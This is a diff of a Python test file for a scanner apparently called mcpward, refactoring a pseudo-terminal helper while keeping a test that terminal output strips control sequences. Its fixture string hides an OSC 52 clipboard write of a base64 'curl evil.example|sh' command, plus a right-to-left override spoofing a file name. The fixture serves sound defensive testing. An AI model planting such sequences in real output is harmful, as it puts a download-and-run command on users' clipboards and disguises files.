@@ -8,16 +8,9 @@ it is (the clean case: CSV and JSON files hold the names as found)."""
 from __future__ import annotations
 
 import json
-import os
-import pty
-import select
-import subprocess
-import time
 from pathlib import Path
 
-from gateway_attack_kit import MCPWARD
-
-import mcpward
+from cli_kit import on_a_terminal
 
 #: A clipboard write ended by BEL, the line erased, a right-to-left override.
 HOSTILE = "ok\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b[2K\u202etxt.exe"
@@ -34,54 +27,13 @@ def _tree(tmp_path: Path) -> tuple[Path, Path]:
     return tree, home
 
 
-def _on_a_terminal(args: list[str], env: dict[str, str]) -> str:
-    leader, follower = pty.openpty()
-    process = subprocess.Popen(
-        [*MCPWARD, *args], stdin=subprocess.DEVNULL, stdout=follower, stderr=subprocess.DEVNULL, env=env
-    )
-    os.close(follower)
-    chunks: list[bytes] = []
-    deadline = time.monotonic() + 120
-    while time.monotonic() < deadline:
-        ready, _, _ = select.select([leader], [], [], 1)
-        if ready:
-            try:
-                chunk = os.read(leader, 65536)
-            except OSError:  # the follower closed: the process ended
-                break
-            if not chunk:
-                break
-            chunks.append(chunk)
-        elif process.poll() is not None:
-            break
-    os.close(leader)
-    process.wait(timeout=30)
-    return b"".join(chunks).decode("utf-8", "replace")
-
-
 def test_a_terminal_named_by_output_gets_no_control_raw(tmp_path: Path) -> None:
     tree, home = _tree(tmp_path)
-    env = {
-        **os.environ,
-        "PYTHONPATH": str(Path(mcpward.__file__).parents[1]),
-        "MCPWARD_DATA_DIR": str(tmp_path / "d"),
-    }
     for output_format in ("csv", "json"):
-        shown = _on_a_terminal(
-            [
-                "scan",
-                "--home",
-                str(home),
-                "--only-paths",
-                "--path",
-                str(tree),
-                "-f",
-                output_format,
-                "-o",
-                "/dev/stdout",
-            ],
-            env,
-        )
+        _code, shown = on_a_terminal(
+            "scan", "--home", str(home), "--only-paths", "--path", str(tree), "-f", output_format,
+            "-o", "/dev/stdout", env={"MCPWARD_DATA_DIR": str(tmp_path / "d")}, stderr=False,
+        )  # fmt: skip
         assert "some-mcp" in shown, shown[:300]
         assert not any(raw in shown for raw in RAW), (output_format, shown[:300])
 
